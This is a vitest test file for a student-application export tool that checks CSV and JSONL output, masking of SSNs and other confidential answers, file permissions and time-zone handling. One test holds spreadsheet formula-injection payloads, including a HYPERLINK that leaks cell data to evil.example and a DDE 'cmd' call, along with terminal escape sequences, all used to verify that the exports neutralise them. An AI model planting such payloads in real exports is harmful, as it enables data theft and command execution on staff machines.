import { readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, beforeEach, expect, test } from 'vitest';
import { applicationNumber } from '../records/application-number.ts';
import { encryptAnswers } from '../records/stored-application.ts';
import { ownFolder } from '../testing/own-folder.ts';
import { completeAnswers } from '../testing/small-questionnaire.ts';
import { appOfTests } from '../testing/app-of-tests.ts';
import type { TestApp } from '../testing/test-app.ts';
import { staff } from '../testing/test-office.ts';

let folder: string;
let number: string;
const ssn = '123-45-6789';
const server = appOfTests();
beforeAll(async () => {
  const ada = await server.studentAlready('ada@example.org');
  expect((await ada.save({ ...completeAnswers, ssn, essay: 'Zoë said: "Yes",\nand left.' })).status).toBe(200);
  expect((await ada.submit()).status).toBe(200);
  const draft = await server.studentAlready('draft@example.org');
  await draft.save({ first_name: 'Nobody yet' });
  const [row] = await server.query<{ application_id: string }>('SELECT application_id FROM submission');
  number = applicationNumber(row!.application_id);
});
beforeEach(() => {
  folder = ownFolder();
});

async function exported(format: 'csv' | 'jsonl', ...args: string[]): Promise<string> {
  const output = join(folder, `all.${format}`);
  await staff(server, 'export', '--format', format, '--output', output, ...args);
  const text = readFileSync(output, 'utf8');
  rmSync(output);
  return text;
}
const csv = async (...args: string[]): Promise<Record<string, string>[]> =>
  parse(await exported('csv', ...args), { bom: true, columns: true });
const jsonl = async (...args: string[]): Promise<Record<string, unknown>[]> =>
  (await exported('jsonl', ...args))
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Record<string, unknown>);

/** A submission of a new person, as stored. */
async function submitted(email: string, answers: Record<string, string>, at = '2026-09-01T12:00:00Z'): Promise<void> {
  await server.studentAlready(email);
  await server.query(
    `INSERT INTO submission (application_id, submitted_at, questionnaire_version, answers, tabs, add_another, documents)
     SELECT application_id, $3, 'v', $2, '{}', '{}', '{}' FROM account WHERE email = $1`,
    [email, JSON.stringify(answers), at],
  );
}
/** What a terminal obeys. */
const obeyed = /(?![\t\n]|\r\n)\p{Cc}/gu;
const remove = (email: string): Promise<unknown> => server.query('DELETE FROM account WHERE email LIKE $1', [email]);

test("a table has a row for each submission and a column for each question, in the questionnaire's order", async () => {
  const [row, ...others] = await csv();
  expect(others).toEqual([]);
  expect(Object.keys(row!)).toEqual([
    'application-number',
    'submitted-on',
    'account-email',
    'intended-student-type',
    'first_name',
    'citizenship_type',
    'citizenship_type_desc',
    'visa',
    'race_a',
    'race_b',
    'ssn',
    'hs_name',
    'hs_2_name',
    'hs_3_name',
    'essay',
    'essay_doc',
  ]);
  expect(row).toMatchObject({
    'application-number': number,
    'submitted-on': '2026-09-01',
    'account-email': 'ada@example.org',
    'intended-student-type': 'Freshman',
    first_name: 'Ada',
    citizenship_type: '1',
    citizenship_type_desc: 'Citizen',
    visa: '',
    hs_name: 'Hill High',
    essay: 'Zoë said: "Yes",\nand left.',
    ssn: '••••••••',
  });
  const [labelled] = await csv('--labels');
  expect(labelled).toMatchObject({
    'You: First name': 'Ada',
    'You: Citizenship (text)': 'Citizen',
    'You: Race: A': '',
    'School 1: Name': 'Hill High',
    'Schools: Essay [essay]': expect.stringContaining('Zoë'),
    'Schools: Essay [essay_doc]': '',
  });
});

test('a line of JSON has all that was submitted, as it is kept', async () => {
  const [row] = await server.query(
    'SELECT questionnaire_version, tabs, add_another, documents, left_aside FROM submission',
  );
  expect(await jsonl('--with-sensitive')).toEqual([
    {
      ...row,
      number,
      email: 'ada@example.org',
      intended_student_type: 'Freshman',
      submitted_on: '2026-09-01',
      submitted_at: '2026-09-01T12:00:00.000Z',
      answers: { ...completeAnswers, ssn, essay: 'Zoë said: "Yes",\nand left.' },
    },
  ]);
});

test('what earlier versions kept of the student type is exported as what is kept now', async () => {
  await submitted('before@example.org', {});
  await server.query(
    "UPDATE submission SET intended_student_type = 'Transfer' WHERE submission.application_id = (SELECT application_id FROM account WHERE email = 'before@example.org')",
  );
  const ofBefore = { email: 'before@example.org', intended_student_type: 'Transfer' };
  expect(await jsonl()).toContainEqual(expect.objectContaining(ofBefore));
  expect((await csv()).map((row) => row['intended-student-type']).toSorted()).toEqual(['Freshman', 'Transfer']);
  await remove('before@example.org');
});

test('a confidential answer stands there in clear only where that was asked for', async () => {
  for (const text of [await exported('csv'), await exported('jsonl')]) expect(text).not.toMatch(/6789|sealed/);
  expect((await csv('--with-sensitive'))[0]).toMatchObject({ ssn });
  await submitted('before@example.org', { ssn: '987-65-4321' });
  expect((await exported('csv')) + (await exported('jsonl'))).not.toContain('4321');
  await remove('before@example.org');
});

test('an answer only encrypted at rest exports in clear, and a list of applications decrypts none', async () => {
  const { secrets, config } = server.dependencies;
  const answers = {
    visa: 'F-1 ü',
    ssn,
    citizenship_type: '2',
    citizenship_type_desc: 'Resident',
    first_name: 'Ada',
    hobby: 'no question now',
  };
  await submitted('sealed@example.org', {}, '2026-09-05T12:00:00Z');
  const [row] = await server.query<{ application_id: string }>(
    "SELECT application_id FROM account WHERE email = 'sealed@example.org'",
  );
  const id = row!.application_id;
  const sealed = JSON.stringify(encryptAnswers(secrets, id, answers, Object.keys(answers)));
  for (const table of ['submission', 'application'])
    await server.query(`UPDATE ${table} SET answers = $2 WHERE application_id = $1`, [id, sealed]);
  const office: TestApp = {
    ...server,
    dependencies: {
      ...server.dependencies,
      config: {
        ...config,
        questionnaire: { ...config.questionnaire, encrypted: ['visa', 'ssn', 'citizenship_type', 'first_name'] },
      },
    },
  };
  const output = join(folder, 'all.jsonl');
  async function read(...args: string[]): Promise<unknown> {
    await staff(office, 'export', '--format', 'jsonl', '--since', '2026-09-05', '--output', output, ...args);
    const text = readFileSync(output, 'utf8');
    rmSync(output);
    return (JSON.parse(text) as { answers: unknown }).answers;
  }
  expect(await read()).toEqual({ ...answers, ssn: '••••••••', hobby: '••••••••' });
  expect(await read('--with-sensitive')).toEqual(answers);
  expect(await staff(office, 'applications', 'sealed@', '--json')).toContain('"name":""');
  await remove('sealed@example.org');
});

test('no text that somebody typed is a formula in a spreadsheet, or a cell or a row of its own', async () => {
  const corpus = [
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1,1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\uff1d1',
    '\uff0b1',
    '\uff0d1',
    '\uff201',
    '"=1',
    '","=1',
    '",\r\n"=1',
    "'=1",
    ';=1',
    '=1;',
    '\ufeff=1',
    // Kept before control characters were refused.
    '\u001b]0;owned\u0007 \u001b[31m',
    'over\b\b\u009b1m\u0085\u007f',
    '\r\n\r\n',
    '"',
    '""',
    ',',
  ];
  for (const [at, text] of corpus.entries())
    await submitted(
      `hostile${at}@example.org`,
      { first_name: text, essay: text, [`gone_${at}`]: 'x' },
      '2026-09-02T12:00:00Z',
    );
  const rows = await csv('--since', '2026-09-02');
  const read = new Map(rows.map((row) => [row['account-email'], row]));
  expect(rows).toHaveLength(corpus.length);
  for (const [at, text] of corpus.entries()) {
    const row = read.get(`hostile${at}@example.org`)!;
    const shown = text.replaceAll(obeyed, ' ');
    for (const cell of [row['first_name']!, row['essay']!]) {
      expect([shown, `'${shown}`]).toContain(cell);
      expect(cell).not.toMatch(/^[\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u);
    }
    expect(row[`gone_${at}`]).toBe('x');
  }
  expect(
    (await jsonl('--since', '2026-09-02'))
      .map(({ answers }) => (answers as Record<string, string>)['essay'])
      .toSorted(),
  ).toEqual(corpus.toSorted());
  for (const format of ['csv', 'jsonl'] as const) expect((await exported(format)).search(obeyed)).toBe(-1);
  await remove('hostile%');
});

test('an answer that is asked no more has a column behind all others', async () => {
  await submitted('old@example.org', { first_name: 'Old', hobby: 'Chess' });
  const rows = await csv();
  expect(Object.keys(rows[0]!).at(-1)).toBe('hobby');
  expect(rows.map(({ hobby }) => hobby).toSorted()).toEqual(['', 'Chess']);
  await remove('old@example.org');
});

test('a day begins where the institution is', async () => {
  await submitted('evening@example.org', {}, '2026-10-02T03:59:59Z');
  await submitted('morning@example.org', {}, '2026-10-02T04:00:00Z');
  const since = async (day: string): Promise<unknown> =>
    (await csv('--since', day)).map((row) => [row['account-email'], row['submitted-on']]);
  expect(await since('2026-10-01')).toEqual([
    ['evening@example.org', '2026-10-01'],
    ['morning@example.org', '2026-10-02'],
  ]);
  expect(await since('2026-10-02')).toEqual([['morning@example.org', '2026-10-02']]);
  expect(await since('2026-10-03')).toEqual([]);
  await remove('%ing@example.org');
});

test('a file is for its owner alone, is written over nothing, and is there as a whole or not at all', async () => {
  const output = join(folder, 'all.csv');
  expect(await staff(server, 'export', '--format', 'csv', '--output', output)).toBe(
    `1 submitted application is in ${output}\nYou alone can read this file. Confidential answers are masked in it.`,
  );
  expect(statSync(output).mode & 0o777).toBe(0o600);
  const before = readFileSync(output, 'utf8');
  await expect(staff(server, 'export', '--format', 'csv', '--output', output)).rejects.toThrow(
    `${output} is there already, and was left as it is.`,
  );
  expect(readFileSync(output, 'utf8')).toBe(before);
  // The second row cannot be decrypted: its answer was sealed for another application.
  await submitted('moved@example.org', {}, '2026-09-05T12:00:00Z');
  await server.query(
    "UPDATE submission SET answers = (SELECT answers FROM submission WHERE submitted_at = '2026-09-01T12:00:00Z') WHERE submitted_at > '2026-09-05'",
  );
  await expect(
    staff(server, 'export', '--format', 'jsonl', '--with-sensitive', '--output', join(folder, 'broken.jsonl')),
  ).rejects.toThrow();
  expect(readdirSync(folder)).toEqual(['all.csv']);
  await remove('moved@example.org');
  await expect(
    staff(server, 'export', '--format', 'csv', '--output', join(folder, 'no', 'folder.csv')),
  ).rejects.toThrow('cannot be written (ENOENT)');
});

test('where nobody says where, the file stays with the data', async () => {
  writeFileSync(join(folder, 'other'), '');
  const said = await staff(server, 'export', '--format', 'jsonl');
  const path = join(server.dependencies.settings.DATA_DIR, 'exports', 'applications-2026-09-01.jsonl');
  expect(said).toContain(path);
  expect(JSON.parse(readFileSync(path, 'utf8'))).toMatchObject({ number });
});
